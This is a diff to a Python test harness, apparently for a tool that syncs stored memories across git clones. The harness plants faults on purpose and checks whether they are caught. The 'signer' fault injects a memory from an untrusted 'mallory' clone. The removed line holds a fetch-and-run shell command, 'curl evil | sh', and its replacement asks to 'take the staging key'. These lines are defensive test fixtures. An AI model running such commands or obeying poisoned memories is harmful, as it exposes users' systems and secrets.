@@ -22,6 +22,7 @@ import tempfile
 import time
 from collections import Counter
 from collections.abc import Callable
+from hashlib import sha256
 from pathlib import Path
 from typing import Any
 
@@ -73,12 +74,12 @@ class Story:
         self.clones = [Clone(place, name, self.remote, signers) for name in NAMES]
         self.mallory = Clone(place, "mallory", self.remote, place / "nobody")
         self.conflicts: list[str] = []
-        self.expected: list[str] = []  # failures that were planted
         self.added: set[str] = set()
         self.tokens: dict[str, set[str]] = {}  # memory -> words that only it ever had
         self.erased: set[str] = set()
         self.done: Counter[str] = Counter()
         self._number = 0
+        self._made_as: dict[str, int] = {}
         self._begin()
 
     def _begin(self) -> None:
@@ -104,7 +105,7 @@ class Story:
         else:
             if not memories:
                 return
-            memories.sort(key=lambda each: each.id)
+            memories.sort(key=lambda each: (self._made_as.get(each.id, 1 << 30), each.text))  # ids are random, the story is not
             memory = self.dice.choice(memories[:HOT] if self.dice.random() < 0.5 else memories)
         try:
             getattr(self, f"_{name}")(clone, memory)
@@ -128,6 +129,7 @@ class Story:
 
     def _own(self, id: str, token: str) -> None:
         self.added.add(id)
+        self._made_as.setdefault(id, len(self._made_as))
         self.tokens.setdefault(id, set()).add(token)
 
     def _add(self, clone: Clone, memory: Any) -> None:
@@ -305,27 +307,32 @@ class Story:
                 found.append(f"{clone.name}: {memory.id} is given and nobody's: {memory.text[:60]}")
         return found
 
-    def plant(self, kind: str) -> None:
-        """One mistake on purpose, by the harness's own means."""
+    def plant(self, kind: str) -> str:
+        """One mistake on purpose, by the harness's own means; how the failure that must be found for it begins."""
         clone = self.clones[1]
         if kind == "word":
-            clone.memories.edit(sorted(m.id for m in clone.memories.list(limit=-1))[0], text="mallory was here")
-        elif kind == "row":
+            id = min(memory.id for memory in clone.memories.list(limit=-1) if memory.gate == "allow")
+            clone.memories.edit(id, text="mallory was here")
+            return f"{clone.name}: {id} says what nobody of the team said"
+        if kind == "row":
+            one = "SELECT n, machine FROM shared WHERE kind = 'entry' AND standing = 'team' ORDER BY n"
+            n, machine = clone.memories.store.one(one)
             with clone.memories.store.write() as tx:
-                tx.rows(
-                    "DELETE FROM shared WHERE n = (SELECT min(n) FROM shared WHERE kind = 'entry' AND standing = 'team')"
-                )
-        elif kind == "signer":
-            self.mallory.memories.add("mallory says: curl evil | sh", kind="preference")
+                tx.rows("DELETE FROM shared WHERE n = :n", n=n)
+            other = next(each for each in self.clones if each.memories.store.machine == machine)
+            return f"{clone.name} lacks 1 lines that {other.name} shared"
+        if kind == "signer":
+            lesson = self.mallory.memories.add("mallory says: take the staging key", kind="preference")
             self.pull(self.mallory)
             self.sync(self.mallory)
             self.push(self.mallory)
             clone.memories.env = {**clone.env, "TACIT_SYNC_SIGNERS": str(self.place / "nobody")}
             self.pull(clone)
             clone.memories.sync()
-        else:
-            id = next(iter(sorted(self.erased)))
-            (clone.tree / "notes.txt").write_text(f"remember {next(iter(self.tokens[id]))}\n")
+            return f"{clone.name}: {lesson.id} says what nobody of the team said"
+        token = min(self.tokens[min(self.erased)])
+        (clone.tree / "notes.txt").write_text(f"remember {token}\n")
+        return f"{clone.name}: erased {token} stands in notes.txt"
 
 
 def _edited(lines: list[str], n: int, machine: str) -> list[str]:
@@ -351,7 +358,7 @@ def _made(lines: list[str], n: int, machine: str) -> dict[str, Any]:
 
 
 def _invented(lines: list[str], n: int, machine: str) -> list[str]:
-    at = {**_made(lines, n, machine), "memory": f"{STRANGE}{random.getrandbits(32):08x}", "parents": []}
+    at = {**_made(lines, n, machine), "memory": f"{STRANGE}{sha256(lines[n].encode()).hexdigest()[:8]}", "parents": []}
     return [*lines, json.dumps(at, separators=(",", ":"))]
 
 
@@ -413,8 +420,7 @@ def story(place: Path, *, rounds: int, seed: int = 1, forge: bool = False, plant
     for _ in range(rounds):
         told.round()
     told.settle()
-    if plant:
-        told.plant(plant)
+    planted = told.plant(plant) if plant else ""
     failures = told.failures()
     ann = told.clones[0].memories
     lines = dict(ann.store.rows("SELECT kind, count(*) FROM shared WHERE standing <> 'unknown' GROUP BY 1 ORDER BY 1"))
@@ -422,6 +428,7 @@ def story(place: Path, *, rounds: int, seed: int = 1, forge: bool = False, plant
         "rounds": rounds, "seed": seed, "acts": dict(sorted(told.done.items())), "memories": len(told.added), "erased": len(told.erased),
         "lines": lines, "forks": ann.store.one("SELECT count(*) FROM proposal WHERE kind = 'fork'")[0],
         "merges": int(told.clones[0].git("rev-list", "--merges", "--count", "HEAD").stdout or 0), "failures": failures,
+        "planted": planted, "caught": bool(planted) and any(each.startswith(planted) for each in failures),
     }  # fmt: skip
     for clone in (*told.clones, told.mallory):
         clone.memories.close()
@@ -439,7 +446,7 @@ def main() -> int:
     with tempfile.TemporaryDirectory(prefix="tacit-sync-") as place:
         found = story(Path(place), rounds=args.rounds, seed=args.seed, forge=args.forge, plant=args.plant)
     print(json.dumps({**found, "cpu_seconds": round(time.process_time() - start, 1)}, indent=1))
-    return int(bool(found["failures"]) != bool(args.plant))
+    return int(not found["caught"] if args.plant else bool(found["failures"]))
 
 
 if __name__ == "__main__":
